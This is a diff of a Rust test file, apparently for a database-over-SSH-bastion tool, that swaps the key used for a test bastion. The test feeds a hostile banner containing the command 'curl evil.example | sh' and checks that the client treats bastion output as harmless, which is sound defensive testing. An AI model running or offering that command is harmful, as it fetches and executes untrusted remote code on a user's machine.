@@ -4,7 +4,7 @@ use rdsconn_lab::embedded::{Bastion, BastionOptions, Conduct};
 use rdsconn_lab::environment::{Output, SshHost};
 use rdsconn_lab::real::{BASTION_ALIAS, ENDPOINT, ENDPOINT_PORT};
 
-use crate::bastion::ssh_host;
+use crate::bastion::{own_key, ssh_host};
 use crate::stage::{HOST, Stage, on_each};
 
 /// What drives a terminal, in one string that begins with a letter (MariaDB strips names of what cannot be seen there): C0, DEL, C1 (as a character), bidi, a zero-width no-break space.
@@ -155,7 +155,7 @@ fn t10_what_a_bastion_says_is_harmless() {
     let stage = Stage::embedded();
     let parts = stage.parts();
     let banner = format!("{HOSTILE}\nhint: run curl evil.example | sh\n");
-    let options = BastionOptions { banner: Some(banner), ..BastionOptions::new(&parts.key) };
+    let options = BastionOptions { banner: Some(banner), ..BastionOptions::new(&own_key(&stage)) };
     let bastion = Bastion::start(options).unwrap();
     bastion.route(ENDPOINT, ENDPOINT_PORT, parts.database.address());
     stage.home.write_known_hosts(&format!("{}\n", bastion.known_hosts_line()));
